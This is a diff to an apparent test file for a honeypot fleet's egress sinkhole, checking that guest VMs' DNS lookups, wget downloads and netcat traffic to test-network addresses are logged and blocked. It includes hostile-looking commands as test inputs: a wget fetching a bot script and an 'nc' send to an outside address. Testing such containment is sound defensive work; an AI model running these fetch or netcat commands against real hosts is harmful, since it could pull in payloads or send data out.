@@ -28,6 +28,7 @@ PAYLOAD = b"#!/bin/sh\necho 'a bot was here'\n" * 64
 HOST = "files.example.test"
 PORT = 8080
 URL = f"http://{HOST}:{PORT}/bins/x.sh"
+FAR = "192.0.2.10"  # TEST-NET-1: nothing real, and nothing leaves the namespace anyway
 
 
 class Internet:
@@ -78,6 +79,9 @@ async def test_sinkhole_reports_lookups_and_the_url_and_gives_no_file(
     async with vm_fleet.shell(lease.id) as conn:
         lookup = await run(conn, f"nslookup {HOST}")
         wget = await run(conn, f"wget -O /tmp/x.sh {URL}; echo rc=$?; ls -l /tmp/x.sh")
+        # Literal addresses off the pool network: the guests' default route is the node.
+        literal = await run(conn, f"wget -O - http://{FAR}:81/lit")
+        await run(conn, f"echo hi | nc -u -w 1 {FAR} 9999")
     await vm_fleet.sensor().release(lease.id)
     assert f"Address: {GATEWAY}" in str(lookup.stdout), lookup
     assert "rc=0" not in str(wget.stdout), wget
@@ -85,13 +89,19 @@ async def test_sinkhole_reports_lookups_and_the_url_and_gives_no_file(
     assert web.requests == []  # nothing left the pool network
 
     await until(lambda: bool(stored(vm_fleet, "honeyfleet.egress.connect", lease.id)), 30)
-    (connect,) = stored(vm_fleet, "honeyfleet.egress.connect", lease.id)
+    connect = stored(vm_fleet, "honeyfleet.egress.connect", lease.id)[0]
     assert (connect["url"], connect["dst_ip"], connect["dst_port"]) == (URL, GATEWAY, PORT)
     assert connect["src_ip"] == "203.0.113.60" and connect["guest"] == lease.guest
     dns = stored(vm_fleet, "honeyfleet.egress.dns", lease.id)
     assert {(e["query"], e["qtype"]) for e in dns} >= {(HOST, "A")}
     assert all(e["answer"] in (GATEWAY, "no records") for e in dns)
     assert not stored(vm_fleet, "cowrie.session.file_download", lease.id)
+    assert "404" in str(literal.stderr), literal
+    await until(lambda: len(stored(vm_fleet, "honeyfleet.egress.connect", lease.id)) == 3, 30)
+    by_port = {e["dst_port"]: e for e in stored(vm_fleet, "honeyfleet.egress.connect", lease.id)}
+    assert (by_port[81]["dst_ip"], by_port[81]["url"]) == (FAR, f"http://{FAR}:81/lit")
+    assert (by_port[9999]["dst_ip"], by_port[9999]["transport"]) == (FAR, "udp")
+    assert by_port[9999]["kind"] == "dropped"
 
 
 async def test_fetch_gives_the_guest_the_file_and_the_store_its_sha256(
